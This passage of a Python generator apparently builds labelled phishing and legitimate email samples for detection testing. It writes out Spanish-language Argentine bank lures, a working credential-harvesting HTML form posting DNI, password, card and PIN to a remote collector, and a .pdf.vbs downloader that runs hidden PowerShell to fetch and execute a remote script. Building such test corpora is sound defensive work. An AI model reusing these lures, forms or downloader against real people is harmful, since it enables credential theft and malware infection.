               footer: list[str] | None = None, logo: str = "", preheader: str = "", after: list[str] | None = None,
               width: int = 600, font: str = "Arial, Helvetica, sans-serif", text_color: str = "#333333") -> str:
    """A table-based responsive HTML mail in the style ESPs and bank templates produce."""
    pre = (f'<div style="display:none;max-height:0;overflow:hidden;mso-hide:all;">{preheader}'
           f'&nbsp;&zwnj;&nbsp;&zwnj;&nbsp;&zwnj;&nbsp;</div>\n') if preheader else ""
    logo_html = (f'<img src="{logo}" alt="{brand}" width="140" style="display:block;border:0;" />' if logo else
                 f'<span style="font-size:22px;font-weight:bold;color:#ffffff;">{brand}</span>')
    body = "\n".join(f'<p style="margin:0 0 16px 0;">{p}</p>' for p in paras)
    btn = ""
    if button:
        btn = (f'<table role="presentation" cellpadding="0" cellspacing="0" border="0" align="center"><tr>'
               f'<td bgcolor="{color}" style="border-radius:4px;padding:12px 28px;">'
               f'<a href="{button[1]}" target="_blank" style="color:#ffffff;text-decoration:none;font-weight:bold;'
               f'font-size:15px;">{button[0]}</a></td></tr></table>\n')
    after_html = "\n".join(f'<p style="margin:16px 0 0 0;">{p}</p>' for p in (after or []))
    foot = "<br>\n".join(footer or [])
    return f"""<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Transitional//EN" "http://www.w3.org/TR/xhtml1/DTD/xhtml1-transitional.dtd">
<html xmlns="http://www.w3.org/1999/xhtml" lang="es">
<head>
<meta http-equiv="Content-Type" content="text/html; charset=utf-8" />
<meta name="viewport" content="width=device-width, initial-scale=1.0" />
<title>{title}</title>
</head>
<body style="margin:0;padding:0;background-color:#f2f2f2;">
{pre}<table role="presentation" width="100%" cellpadding="0" cellspacing="0" border="0" bgcolor="#f2f2f2">
<tr><td align="center" style="padding:20px 10px;">
<table role="presentation" width="{width}" cellpadding="0" cellspacing="0" border="0" bgcolor="#ffffff" style="max-width:{width}px;">
<tr><td bgcolor="{color}" style="padding:18px 30px;">{logo_html}</td></tr>
<tr><td style="padding:30px;font-family:{font};font-size:15px;line-height:22px;color:{text_color};">
<h1 style="font-size:20px;line-height:26px;margin:0 0 18px 0;color:#222222;">{title}</h1>
{body}
{btn}{after_html}
</td></tr>
<tr><td style="padding:18px 30px;background-color:#fafafa;font-family:{font};font-size:11px;line-height:16px;color:#888888;">
{foot}
</td></tr>
</table>
</td></tr>
</table>
</body>
</html>
"""


def brand_plain(title: str, paras: list[str], button: tuple[str, str] | None = None, footer: list[str] | None = None,
                after: list[str] | None = None) -> str:
    out = [title, ""]
    out += [strip_tags(p) + "\n" for p in paras]
    if button:
        out.append(f"{button[0]}: {button[1]}\n")
    out += [strip_tags(p) + "\n" for p in (after or [])]
    if footer:
        out.append("--")
        out += [strip_tags(f) for f in footer]
    return "\n".join(out) + "\n"


def kit_html(paras: list[str], title: str = "", style: str = "font-family:Segoe UI,Arial,sans-serif;font-size:14px;color:#222") -> str:
    """The plain div-based HTML that phishing kits and PHP mailers send."""
    inner = "\n".join(f"<p>{p}</p>" for p in paras)
    head = f"<title>{title}</title>" if title else ""
    return f"<html><head><meta charset=\"UTF-8\">{head}</head><body>\n<div style=\"{style}\">\n{inner}\n</div>\n</body></html>\n"


def outlook_html(paras: list[str], signature: list[str] | None = None, quoted: str = "") -> str:
    """HTML as Outlook desktop / OWA writes it (WordSection1, MsoNormal)."""
    body = "\n".join(f'<p class="MsoNormal">{p if p else "<o:p>&nbsp;</o:p>"}<o:p></o:p></p>' for p in paras)
    sig = "\n".join(f'<p class="MsoNormal"><span style="font-size:9.0pt;color:#595959">{s}</span><o:p></o:p></p>'
                    for s in (signature or []))
    return f"""<html xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office" xmlns:w="urn:schemas-microsoft-com:office:word" xmlns:m="http://schemas.microsoft.com/office/2004/12/omml" xmlns="http://www.w3.org/TR/REC-html40">
<head>
<meta http-equiv="Content-Type" content="text/html; charset=utf-8">
<meta name="Generator" content="Microsoft Word 15 (filtered medium)">
<style><!--
/* Font Definitions */
@font-face
	{{font-family:Aptos;}}
p.MsoNormal, li.MsoNormal, div.MsoNormal
	{{margin:0cm;
	font-size:11.0pt;
	font-family:"Aptos",sans-serif;}}
a:link, span.MsoHyperlink
	{{mso-style-priority:99;
	color:#467886;
	text-decoration:underline;}}
.MsoChpDefault
	{{mso-style-type:export-only;}}
@page WordSection1
	{{size:612.0pt 792.0pt;
	margin:70.85pt 3.0cm 70.85pt 3.0cm;}}
div.WordSection1
	{{page:WordSection1;}}
--></style>
</head>
<body lang="ES-AR" link="#467886" vlink="#96607D" style="word-wrap:break-word">
<div class="WordSection1">
{body}
<p class="MsoNormal"><o:p>&nbsp;</o:p></p>
{sig}
{quoted}
</div>
</body>
</html>
"""


def gmail_html(paras: list[str], signature: list[str] | None = None, quoted: str = "") -> str:
    body = "".join(f"<div>{p if p else '<br>'}</div>" for p in paras)
    sig = ""
    if signature:
        sig = ('<div><br clear="all"></div><div><br></div><span class="gmail_signature_prefix">-- </span><br>'
               '<div dir="ltr" class="gmail_signature" data-smartmail="gmail_signature"><div dir="ltr">'
               + "<br>".join(signature) + "</div></div>")
    return f'<div dir="ltr">{body}{sig}</div>{quoted}\n'


# --------------------------------------------------------------------------------------------------
# assembling, checking, writing
# --------------------------------------------------------------------------------------------------

MESSAGES: list[tuple[str, str, str, bytes]] = []


def emit(stem: str, folder: str, description: str, env: Env, own: list[str], body) -> None:
    """Put the provider's headers around the sender's ``own`` headers and record the message."""
    seed = stem
    top, trailer = receive(env, seed)
    headers = top + own + trailer
    if not any(h.lower().startswith("mime-version:") for h in headers):
        headers.append("MIME-Version: 1.0")
    data = message("\n".join(headers), body)
    MESSAGES.append((stem, folder, description, data))


def check(stem: str, data: bytes) -> None:
    for line in data.split(b"\n"):
        assert len(line) < 990, (stem, line[:80])
    msg = BytesParser(policy=policy.default).parsebytes(data)
    for name in ("From", "To", "Subject", "Date", "Message-ID"):
        assert msg[name] is not None, (stem, name)
    for name in ("From", "To", "Subject", "Date", "Message-ID", "MIME-Version", "Content-Type"):
        assert len(msg.get_all(name) or []) <= 1, (stem, "duplicate", name)
    assert not msg.defects, (stem, msg.defects)
    for key, value in msg.items():
        assert not getattr(value, "defects", ()), (stem, key, value.defects)
    data.split(b"\n\n", 1)[0].decode("ascii")
    texts = 0
    for part in msg.walk():
        assert not part.defects, (stem, part.get_content_type(), part.defects)
        if part.get_content_maintype() == "text":
            content = part.get_content()
            assert isinstance(content, str) and content.strip(), (stem, part.get_content_type())
            texts += 1
    assert texts, stem


def write_all() -> None:
    for old in MAIL.glob(f"*/b{N}-*.eml"):
        old.unlink()
    stems = set()
    lines = []
    counts: dict[str, int] = {}
    for stem, folder, description, data in MESSAGES:
        assert stem not in stems, stem
        stems.add(stem)
        assert stem.startswith(f"b{N}-phish-") or stem.startswith(f"b{N}-legit-"), stem
        check(stem, data)
        folder = REFILED.get(stem, folder)
        path = MAIL / folder / f"{stem}.eml"
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(data)
        lines.append(f"samples/mail/{folder}/{stem}.eml | {folder} | {description}")
        counts[folder] = counts.get(folder, 0) + 1
    MANIFEST.write_text("\n".join(lines) + "\n", encoding="utf-8")
    attacks = sum(1 for s, *_ in MESSAGES if "-phish-" in s)
    legit = len(MESSAGES) - attacks
    print(f"blind{N}: {len(MESSAGES)} messages ({attacks} attacks, {legit} legitimate): "
          + ", ".join(f"{k}={v}" for k, v in sorted(counts.items())))



# --------------------------------------------------------------------------------------------------
# common sender shapes
# --------------------------------------------------------------------------------------------------


def kit_own(d: datetime, frm: str, to: str, subject: str, msgid: str, seed: str, dkim: tuple[str, str] | None = None,
            reply_to: str | None = None, mailer: str | None = "PHPMailer 6.9.1 (https://github.com/PHPMailer/PHPMailer)",
            extra: list[str] | None = None, local_hop: str | None = None, charset: str = "utf-8", mode: str = "B",
            cc: str | None = None) -> list[str]:
    """Headers of a message written by a PHP mailer / phishing kit on a server it controls."""
    hdrs = []
    if dkim:
        hdrs.append(dkim_sig(dkim[0], dkim[1], d, seed, h="Date:To:From:Reply-To:Subject:Message-ID:MIME-Version:Content-Type"))
    if local_hop:
        hdrs.append(f"Received: from localhost (localhost [127.0.0.1])\n\tby {local_hop} (Postfix) with ESMTPSA id "
                    f"{tok(seed + 'lh', 10, HEXU)}\n\tfor <{to.split('<')[-1].rstrip('>')}>; {rfc_named(d)}")
    hdrs += [f"Date: {rfc(d)}", f"To: {to}", f"From: {frm}"]
    if cc:
        hdrs.append(f"Cc: {cc}")
    if reply_to:
        hdrs.append(f"Reply-To: {reply_to}")
    hdrs += [subj(subject, charset, mode), f"Message-ID: {msgid}"]
    if mailer:
        hdrs.append(f"X-Mailer: {mailer}")
    hdrs += extra or []
    hdrs.append("MIME-Version: 1.0")
    return hdrs


def contabo(seed: str) -> dict:
    ip = f"38.242.{num(seed + 'c1', 128, 255)}.{num(seed + 'c2', 2, 250)}"
    host = f"vmi{num(seed + 'c3', 1500000, 2499999)}.contaboserver.net"
    return {"ip": ip, "rdns": host}


def hostinger(seed: str) -> dict:
    ip = f"147.93.{num(seed + 'h1', 1, 127)}.{num(seed + 'h2', 2, 250)}"
    return {"ip": ip, "rdns": f"srv{num(seed + 'h3', 500000, 799999)}.hstgr.cloud"}


def ovh(seed: str) -> dict:
    return {"ip": f"51.75.{num(seed + 'o1', 128, 255)}.{num(seed + 'o2', 2, 250)}",
            "rdns": f"vps-{hexs(seed + 'o3', 8)}.vps.ovh.net"}


def hostwinds(seed: str) -> dict:
    return {"ip": f"192.236.{num(seed + 'w1', 128, 250)}.{num(seed + 'w2', 2, 250)}",
            "rdns": f"hwsrv-{num(seed + 'w3', 1000000, 1299999)}.hostwindsdns.com"}


def ferozo(seed: str) -> dict:
    return {"ip": f"200.58.{num(seed + 'f1', 96, 127)}.{num(seed + 'f2', 2, 250)}",
            "rdns": f"c{num(seed + 'f3', 1100000, 2999999)}.ferozo.com"}


def sendgrid(seed: str, domain: str) -> dict:
    n = num(seed + "sgn", 1000000, 9999999)
    return {"ip": f"149.72.{num(seed + 's1', 1, 250)}.{num(seed + 's2', 2, 250)}",
            "rdns": f"o{num(seed + 's3', 1, 9)}.ptr{num(seed + 's4', 1000, 9999)}.{domain}", "uid": n}


def mailgun(seed: str) -> dict:
    a, b = num(seed + "m1", 200, 240), num(seed + "m2", 1, 250)
    return {"ip": f"159.135.{a}.{b}", "rdns": f"m{a}-{b}.mailgun.net"}


def ses(seed: str) -> dict:
    a, b = num(seed + "e1", 1, 250), num(seed + "e2", 1, 250)
    return {"ip": f"54.240.{a}.{b}", "rdns": f"a{a}-{b}.smtp-out.amazonses.com"}


def sfmc(seed: str) -> dict:
    a, b = num(seed + "x1", 0, 15), num(seed + "x2", 1, 250)
    return {"ip": f"13.111.{a}.{b}", "rdns": f"mta{num(seed + 'x3', 1, 9)}.mail.exacttarget.com"}


def ml_sender(seed: str) -> dict:
    return {"ip": f"66.135.{num(seed + 'ml1', 200, 215)}.{num(seed + 'ml2', 2, 250)}",
            "rdns": f"mail{num(seed + 'ml3', 10, 99)}.mercadolibre.com"}


# --------------------------------------------------------------------------------------------------
# attacks: Argentina
# --------------------------------------------------------------------------------------------------


def phish_galicia_token() -> None:
    stem = "b45-phish-galicia-token"
    d = when(2025, 3, 18, 9, 42, 11, "ar")
    dom = "galiciaseguridad-token.com"
    vps = contabo(stem)
    rcpt = "lucianagomez.88@gmail.com"
    link = f"https://{dom}/onlinebanking/reactivacion/?cliente={tok(stem + 'l', 18, ALNUM)}"
    title = "Reactivá tu Galicia Token"
    paras = [
        "Hola, cliente Galicia:",
        "Te informamos que tu <b>Galicia Token</b> vence el día de hoy, 18/03/2025. Por disposición del BCRA "
        "(Com. &quot;A&quot; 7783) es obligatorio revalidar el dispositivo asociado para seguir operando con "
        "transferencias, pagos y extracciones.",
        "Si no lo reactivás dentro de las próximas <b>24 horas</b>, tu acceso a Online Banking y a la App Galicia "
        "quedará suspendido de forma preventiva.",
    ]
    after = ["El proceso demora menos de 2 minutos. Tené a mano tu DNI, tu usuario y la clave de tu tarjeta de débito."]
    footer = ["Banco de Galicia y Buenos Aires S.A.U. - Tte. Gral. Juan D. Perón 430 - C.A.B.A.",
              "Este es un mensaje automático, por favor no lo respondas."]
    button = ("Reactivar Galicia Token", link)
    html = brand_html("Galicia", "#fa6400", title, paras, button, footer, preheader="Tu token vence hoy", after=after)
    plain = brand_plain(title, paras, button, footer, after)
    env = Env("gmail", rcpt, d, vps["ip"], vps["rdns"], f"mail.{dom}", f"notificaciones@{dom}", "pass",
              [(dom, "default", "pass")], None, dom)
    own = kit_own(d, addr("Galicia", f"notificaciones@{dom}"), rcpt, "Tu Galicia Token vence hoy: reactivalo para seguir operando",
                  kit_msgid(dom, stem), stem, dkim=(dom, "default"), local_hop=f"mail.{dom}")
    emit(stem, "phishing", "Banco Galicia 'Galicia Token vence hoy' lure in voseo from a look-alike domain on a Contabo VPS, "
         "linking to a token-reactivation credential page.", env, own, alt(plain, html, phpmailer_boundary(stem)))


def phish_bnacion_bloqueo() -> None:
    stem = "b45-phish-bnacion-bloqueo"
    d = when(2024, 11, 5, 22, 14, 37, "ar")
    comp = "ferreteriaelpino.com.ar"
    host = ferozo(stem)
    rcpt = "hector.villalba61@hotmail.com"
    short = "https://acortar.link/Xk7bQp"
    paras = [
        "Estimado/a cliente:",
        "Le informamos que su usuario de <b>Home Banking BNA</b> ha sido <b>bloqueado preventivamente</b> debido a "
        "la detección de múltiples intentos de ingreso fallidos desde un dispositivo no reconocido.",
        "Para rehabilitar su acceso y evitar la baja definitiva del servicio, deberá validar sus datos ingresando "
        f"al siguiente enlace: <a href=\"{short}\" rel=\"noreferrer\">{short}</a>",
        "Una vez completado el formulario, su usuario quedará habilitado en un plazo máximo de 2 horas hábiles.",
        "Atentamente,<br>Centro de Atención al Cliente<br>Banco de la Nación Argentina",
    ]
    html = ('<html><head><meta http-equiv="Content-Type" content="text/html; charset=UTF-8" /></head>'
            '<body style=\'font-size: 10pt; font-family: Verdana,Geneva,sans-serif\'>\n'
            + "\n".join(f"<p>{p}</p>" for p in paras) + "\n</body></html>\n")
    plain = "\n\n".join(strip_tags(p) for p in paras) + "\n"
    env = Env("outlook", rcpt, d, host["ip"], host["rdns"], host["rdns"], f"administracion@{comp}", "pass",
              [(comp, "default", "pass")], None, comp, country="AR")
    own = [dkim_sig(comp, "default", d, stem, h="Content-Transfer-Encoding:Content-Type:Message-ID:Subject:To:From:\n\tDate:MIME-Version:Sender:Reply-To:Cc"),
           f"Received: from [191.82.{num(stem, 1, 250)}.{num(stem + 'b', 1, 250)}] (port={num(stem + 'p', 40000, 60000)} helo=webmail.{comp})\n"
           f"\tby {host['rdns']} with esmtpa (Exim 4.98)\n\t(envelope-from <administracion@{comp}>)\n"
           f"\tid 1t8{tok(stem + 'e', 3, ALNUM)}-{tok(stem + 'f', 6, ALNUM)}-3Q;\n\t{rfc(d - timedelta(seconds=2))}",
           "MIME-Version: 1.0",
           f"Date: {rfc(d)}",
           f"From: {addr('BNA+ | Banco Nación', f'administracion@{comp}')}",
           f"To: administracion@{comp}",
           subj("Aviso de seguridad: su usuario de Home Banking fue bloqueado"),
           f"Message-ID: <{hexs(stem + 'rc', 32)}@{comp}>",
           "X-Sender: administracion@" + comp,
           "User-Agent: Roundcube Webmail/1.6.6"]
    emit(stem, "phishing", "Banco Nación Home Banking 'usuario bloqueado' lure sent through a compromised hardware-store "
         "mailbox (Roundcube, victims in Bcc) with an acortar.link shortener to the credential page.", env, own,
         alt(plain, html, "=_" + hexs(stem + "rcb", 32), "quoted-printable", "utf-8"))


def phish_macro_html_adjunto() -> None:
    stem = "b45-phish-macro-html-adjunto"
    d = when(2025, 6, 9, 8, 5, 52, "ar")
    dom = "bancomacro-clientes.com"
    vps = ovh(stem)
    rcpt = "info@distribuidoranorte.com.ar"
    post = "https://bancomacro-validacion.site/api/recibir.php"
    form = f"""<!DOCTYPE html>
<html lang="es"><head><meta charset="utf-8"><meta name="viewport" content="width=device-width, initial-scale=1">
<title>Banco Macro - Validación de Macro Clave</title>
<style>body{{font-family:Arial,sans-serif;background:#eef2f7;margin:0}}.top{{background:#003b71;color:#fff;padding:14px 24px;font-size:20px}}
.box{{max-width:420px;margin:30px auto;background:#fff;padding:26px;border-radius:6px;box-shadow:0 1px 6px rgba(0,0,0,.15)}}
input{{width:100%;padding:10px;margin:6px 0 14px;border:1px solid #b7c3d0;border-radius:4px;box-sizing:border-box}}
button{{width:100%;padding:12px;background:#00a1e0;color:#fff;border:0;border-radius:4px;font-size:15px}}</style></head>
<body><div class="top">Banco <b>Macro</b> | Banca Internet</div>
<div class="box"><h3>Validación de identidad</h3>
<p style="font-size:13px;color:#555">Completá los datos para desbloquear tu Macro Clave. Por tu seguridad no cierres esta ventana.</p>
<form method="POST" action="{post}">
<label>Documento (DNI)</label><input name="dni" required>
<label>Usuario de Banca Internet</label><input name="usuario" required>
<label>Clave</label><input type="password" name="clave" required>
<label>Número de tarjeta de débito</label><input name="tarjeta" maxlength="19" required>
<label>PIN de la tarjeta</label><input type="password" name="pin" maxlength="4" required>
<button type="submit">Validar</button></form></div>
<script>document.forms[0].addEventListener('submit',function(){{setTimeout(function(){{location.href='https://www.macro.com.ar'}},1500)}});</script>
</body></html>
"""
    paras = [
        "Estimado cliente:",
        "Detectamos un intento de ingreso a tu Banca Internet desde un dispositivo desconocido (Córdoba, 07:48 hs). "
        "Por precaución tu <b>Macro Clave</b> fue bloqueada temporalmente.",
        "Para desbloquearla descargá el formulario adjunto, abrilo en tu navegador y completá la validación de identidad. "
        "El formulario es personal y tiene validez por 12 horas.",
        "Banco Macro S.A. - Atención a clientes",
    ]
    html = kit_html(paras)
    plain = "\n\n".join(strip_tags(p) for p in paras) + "\n"
    body = Multi("mixed", phpmailer_boundary(stem), [
        alt(plain, html, phpmailer_boundary(stem + "a")),
        attachment("text/html", "Validacion_Macro_Clave.html", form.encode()),
    ])
    env = Env("exim", rcpt, d, vps["ip"], vps["rdns"], vps["rdns"], f"seguridad@{dom}", "pass",
              [(dom, "mail", "pass")], None, dom, mx="c1994017.ferozo.com")
    own = kit_own(d, addr("Banco Macro", f"seguridad@{dom}"), rcpt, "Tu Macro Clave fue bloqueada - Validación requerida",
                  kit_msgid(dom, stem), stem, dkim=(dom, "mail"))
    emit(stem, "phishing", "Banco Macro 'Macro Clave bloqueada' lure from a look-alike domain carrying an HTML attachment "
         "whose local form posts DNI, user, password, card number and PIN to a remote PHP collector.", env, own, body)


def phish_mercadopago_wp() -> None:
    stem = "b45-phish-mercadopago-wp"
    d = when(2025, 8, 21, 14, 33, 6, "ar")
    comp = "consultoriomedicobelgrano.com.ar"
    rcpt = "fede.arias.ok@gmail.com"
    link = f"https://www.{comp}/wp-content/plugins/wp-fastcache/mp/acceso/?t={tok(stem + 't', 24, URLSAFE)}"
    title = "Tu cuenta fue restringida temporalmente"
    paras = [
        "Hola,",
        "Por tu seguridad restringimos algunas funciones de tu cuenta de Mercado Pago porque detectamos movimientos "
        "que no coinciden con tu actividad habitual.",
        "Mientras tanto no vas a poder transferir dinero, pagar con QR ni usar tu tarjeta prepaga.",
        "Para levantar la restricción, confirmá tus datos. Es muy rápido.",
    ]
    button = ("Confirmar mis datos", link)
    after = ["Si no confirmás tus datos en las próximas 48 horas, el dinero disponible quedará retenido hasta completar "
             "una revisión manual."]
    footer = ["Mercado Pago", "Este e-mail se envió automáticamente, no lo respondas."]
    html = brand_html("mercado pago", "#009ee3", title, paras, button, footer, after=after)
    plain = brand_plain(title, paras, button, footer, after)
    env = Env("gmail", rcpt, d, f"190.228.{num(stem, 1, 250)}.{num(stem + 'x', 1, 250)}", f"server.{comp}",
              f"server.{comp}", f"wordpress@{comp}", "pass", [(comp, "default", "pass")], None, comp)
    own = kit_own(d, addr("Mercado Pago", f"wordpress@{comp}"), rcpt, "Restringimos tu cuenta por seguridad",
                  f"<{tok(stem + 'wp', 40, ALNUM)}@www.{comp}>", stem, dkim=(comp, "default"),
                  mailer="PHPMailer 6.9.1 (https://github.com/PHPMailer/PHPMailer)")
    emit(stem, "phishing", "Mercado Pago 'cuenta restringida' lure sent by the mail function of a compromised medical-office "
         "WordPress site, with the kit hosted under that site's wp-content/plugins path.", env, own,
         alt(plain, html, phpmailer_boundary(stem)))


def phish_uala_qr() -> None:
    stem = "b45-phish-uala-qr"
    d = when(2025, 10, 2, 19, 7, 44, "ar")
    dom = "uala-reintegros.com"
    rcpt = "cami.benitez_@outlook.com"
    qr = files.qr_png(f"https://{dom}/r/?c={tok(stem + 'q', 10, ALNUM)}")
    html = f"""<html><head><meta charset="utf-8"></head><body style="margin:0;background:#f4f6fb">
<table width="100%" cellpadding="0" cellspacing="0"><tr><td align="center" style="padding:24px">
<table width="520" cellpadding="0" cellspacing="0" style="background:#ffffff;border-radius:10px;font-family:Helvetica,Arial,sans-serif">
<tr><td style="background:#3e6bfd;color:#fff;font-size:26px;font-weight:bold;padding:18px 28px;border-radius:10px 10px 0 0">Ualá</td></tr>
<tr><td style="padding:26px 28px;color:#2b2b2b;font-size:15px;line-height:22px">
<p>¡Hola!</p>
<p>Tenés un <b>reintegro de $45.000</b> pendiente por tus compras con la tarjeta Ualá en septiembre.</p>
<p>Para acreditarlo en tu cuenta tenemos que validar tu identidad. <b>Escaneá este código QR con la cámara de tu celular</b> y seguí los pasos:</p>
<p style="text-align:center"><img src="cid:qr-{hexs(stem, 8)}" width="220" height="220" alt="QR"></p>
<p style="font-size:13px;color:#777">El reintegro vence el 04/10. Si no lo reclamás, se cancela automáticamente.</p>
</td></tr></table></td></tr></table></body></html>
"""
    plain = ("¡Hola!\n\nTenés un reintegro de $45.000 pendiente por tus compras con la tarjeta Ualá en septiembre.\n\n"
             "Para acreditarlo escaneá el código QR de este mail con la cámara de tu celular.\n\n"
             "El reintegro vence el 04/10.\n")
    body = Multi("related", phpmailer_boundary(stem), [
        alt(plain, html, phpmailer_boundary(stem + "a")),
        Leaf("image/png", qr, "base64", '; name="qr.png"', 'inline; filename="qr.png"', [f"Content-ID: <qr-{hexs(stem, 8)}>"]),
    ], params=' type="multipart/alternative";')
    host = {"ip": f"91.195.240.{num(stem, 2, 250)}", "rdns": "outbound.mailhostbox.com"}
    env = Env("outlook", rcpt, d, host["ip"], host["rdns"], host["rdns"], f"beneficios@{dom}", "pass",
              [(dom, "default", "pass")], ("none", "none"), dom, country="DE")
    own = kit_own(d, addr("Ualá", f"beneficios@{dom}"), rcpt, "Tenés un reintegro de $45.000 pendiente",
                  kit_msgid(dom, stem), stem, dkim=(dom, "default"))
    emit(stem, "phishing", "Ualá 'reintegro de $45.000' lure from a look-alike domain whose only call to action is an inline "
         "QR code (quishing) pointing to the identity-validation page.", env, own, body)


def phish_arca_deuda_drive() -> None:
    stem = "b45-phish-arca-deuda-drive"
    d = when(2025, 2, 12, 10, 26, 3, "ar")
    sender = "arca.intimaciones@hotmail.com"
    rcpt = "administracion@estudiogarciaasoc.com.ar"
    drive = f"https://drive.google.com/file/d/1{tok(stem + 'dr', 32, URLSAFE)}/view?usp=sharing"
    paras = [
        "Señor/a Contribuyente:",
        "Se le notifica que en el Sistema de Cuentas Tributarias se registra una <b>deuda exigible</b> correspondiente "
        "a los períodos fiscales 09/2024 a 12/2024 (IVA - Ganancias), por un total de <b>$ 1.284.716,40</b>.",
        "Se intima a regularizar la situación dentro de los cinco (5) días hábiles, bajo apercibimiento de iniciar el "
        "juicio de ejecución fiscal y trabar embargo sobre cuentas bancarias (art. 92, Ley 11.683).",
        f"El detalle de la intimación y el formulario de pago se encuentran disponibles en el siguiente enlace: "
        f"<a href=\"{drive}\">Intimacion_ARCA_2025-INT-0447819.zip</a>",
        "",
        "ARCA - Agencia de Recaudación y Control Aduanero",
        "Dirección Regional Centro - Sección Cobranzas",
    ]
    mid = outlook_msgid(stem, consumer=True)
    html = outlook_html(paras)
    plain = "\n".join(strip_tags(p) for p in paras) + "\n"
    sh, hop = m365_sender("hotmail.com", sender, d, stem, outlook_com=True)
    env = Env("m365", rcpt, d, hop["ip"], hop["rdns"], hop["rdns"], sender, "pass", [("hotmail.com", "selector1", "pass")],
              ("pass", "none"), "hotmail.com", country="US")
    own = sh + [
        f"From: {addr('ARCA Notificaciones', sender)}",
        f"To: {rcpt}",
        subj("Intimación de pago - Deuda registrada en Sistema de Cuentas Tributarias - Ref. 2025-INT-0447819"),
        *outlook_client_headers(stem, d, "Intimación de pago - Deuda registrada en Sistema de Cuentas Tributarias - Ref. 2025-INT-0447819"),
        f"Date: {rfc(d)}",
        f"Message-ID: {mid}",
        "Accept-Language: es-AR, en-US",
        "X-MS-Exchange-Organization-AuthAs: Anonymous",
        "MIME-Version: 1.0",
    ]
    own = [h for h in own if not h.startswith("X-MS-Exchange-Organization-AuthAs")]
    emit(stem, "phishing", "ARCA (ex AFIP) 'intimación de pago' debt lure sent from a free Hotmail account to an accounting firm, "
         "linking to a Google Drive zip holding an MSI banking-trojan installer.", env, own,
         alt(plain, html, outlook_boundary(mid)))


def phish_arca_factura_vbs() -> None:
    stem = "b45-phish-arca-factura-vbs"
    d = when(2024, 9, 24, 16, 48, 20, "ar")
    comp = "insumosgraficoslp.com.ar"
    host = ferozo(stem)
    rcpt = "compras@tallerlopezhnos.com.ar"
    vbs = ("' Comprobante electronico - ARCA\r\n"
           "On Error Resume Next\r\n"
           "Dim sh, p\r\n"
           "Set sh = CreateObject(\"WScript.Shell\")\r\n"
           "p = sh.ExpandEnvironmentStrings(\"%TEMP%\") & \"\\fact.ps1\"\r\n"
           "sh.Run \"powershell -w hidden -ep bypass -c \"\"iwr https://facturas-arca-cae.com/dl/f.ps1 -o \" & p & \"; & \" & p & \"\"\"\", 0, False\r\n")
    z = files.zip_archive([("Factura_A_0004-00018342.pdf.vbs", vbs.encode())])
    paras = ["Buenas tardes,", "",
             "Adjuntamos factura electrónica A 0004-00018342 autorizada por ARCA (CAE N° 74391852046713, vto. 04/10/2024).",
             "Por favor confirmar recepción.", "", "Saludos cordiales,", "Administración", "Insumos Gráficos La Plata"]
    plain = "\n".join(paras) + "\n"
    html = ('<html><head><meta http-equiv="Content-Type" content="text/html; charset=UTF-8" /></head>'
            '<body style=\'font-size: 10pt; font-family: Verdana,Geneva,sans-serif\'>\n'
            + "".join(f"<p>{p}</p>\n" if p else "<p>&nbsp;</p>\n" for p in paras) + "</body></html>\n")
    body = Multi("mixed", "=_" + hexs(stem + "m", 32), [
        alt(plain, html, "=_" + hexs(stem + "a", 32)),
        attachment("application/zip", "Factura_A_0004-00018342.zip", z),
    ])
    env = Env("postfix", rcpt, d, host["ip"], host["rdns"], host["rdns"], f"facturacion@{comp}", "pass",
              [(comp, "default", "pass")], None, comp, mx="mail.tallerlopezhnos.com.ar")
    own = [dkim_sig(comp, "default", d, stem, h="Content-Type:Message-ID:Subject:To:From:Date:MIME-Version:Sender:\n\tReply-To:Cc"),
           f"Received: from [45.181.{num(stem, 1, 250)}.{num(stem + 'b', 1, 250)}] (port={num(stem + 'p', 40000, 60000)} helo=webmail.{comp})\n"
           f"\tby {host['rdns']} with esmtpa (Exim 4.98)\n\t(envelope-from <facturacion@{comp}>)\n"
           f"\tid 1ssL{tok(stem + 'e', 2, ALNUM)}-{tok(stem + 'f', 6, ALNUM)}-0b;\n\t{rfc(d - timedelta(seconds=2))}",
           "MIME-Version: 1.0", f"Date: {rfc(d)}",
           f"From: {addr('Administración - Insumos Gráficos LP', f'facturacion@{comp}')}",
           f"To: {rcpt}", subj("Comprobante electrónico - Factura A 0004-00018342 - ARCA"),
           f"Message-ID: <{hexs(stem + 'rc', 32)}@{comp}>", "User-Agent: Roundcube Webmail/1.6.9"]
    emit(stem, "malware", "Factura electrónica 'autorizada por ARCA' from a compromised supplier mailbox carrying a zip with a "
         "double-extension .pdf.vbs downloader.", env, own, body)


def phish_correoargentino_aduana() -> None:
    stem = "b45-phish-correoargentino-aduana"
    d = when(2024, 12, 10, 11, 3, 58, "ar")
    dom = "correoargentino-envios.com"
    vps = hostinger(stem)
    rcpt = "marianela.sosa.cba@gmail.com"
    link = f"https://{dom}/seguimiento/pago/?envio=CP458219473AR&k={tok(stem, 12, ALNUM)}"
    title = "Tu envío está retenido en aduana"
    paras = [
        "Hola,",
        "Tu envío internacional <b>CP458219473AR</b> se encuentra retenido en el Centro de Tratamiento Postal "
        "Internacional de Ezeiza a la espera del pago de la tasa de gestión aduanera.",
        "<b>Importe a abonar: $ 4.350,00</b>",
        "Si el pago no se registra dentro de las 48 horas, el paquete será devuelto al país de origen.",
    ]
    button = ("Pagar y liberar envío", link)
    footer = ["Correo Oficial de la República Argentina S.A.", "No respondas este correo."]
    html = brand_html("CORREO ARGENTINO", "#1c2e6e", title, paras, button, footer, preheader="Envío CP458219473AR retenido")
    plain = brand_plain(title, paras, button, footer)
    env = Env("gmail", rcpt, d, vps["ip"], vps["rdns"], f"mail.{dom}", f"no-reply@{dom}", "pass",
              [(dom, "default", "pass")], None, dom)
    own = kit_own(d, addr("Correo Argentino", f"no-reply@{dom}"), rcpt, "Envío CP458219473AR retenido: tasa aduanera pendiente",
                  kit_msgid(dom, stem), stem, dkim=(dom, "default"), local_hop=f"mail.{dom}")
    emit(stem, "phishing", "Correo Argentino customs-fee lure ($4.350 to release a parcel held at Ezeiza) from a look-alike "
         "domain on a VPS, linking to a card-payment page.", env, own, alt(plain, html, phpmailer_boundary(stem)))


def phish_andreani_reprogramar() -> None:
    stem = "b45-phish-andreani-reprogramar"
    d = when(2025, 6, 11, 10, 45, 12, "ar")
    dom = "andreani-seguimiento.online"
    mg = mailgun(stem)
    rcpt = "gonzalo_paz77@hotmail.com"
